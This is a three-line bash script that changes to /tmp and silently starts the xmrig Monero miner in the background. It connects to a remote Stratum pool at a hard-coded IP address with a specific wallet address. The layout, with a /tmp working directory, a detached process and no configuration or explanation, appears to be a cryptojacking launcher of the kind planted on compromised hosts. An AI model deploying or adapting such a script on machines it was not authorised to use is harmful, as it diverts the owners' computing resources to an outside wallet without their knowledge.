#!/bin/bash
cd /tmp
./xmrig -o stratum+tcp://203.0.113.5:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x &
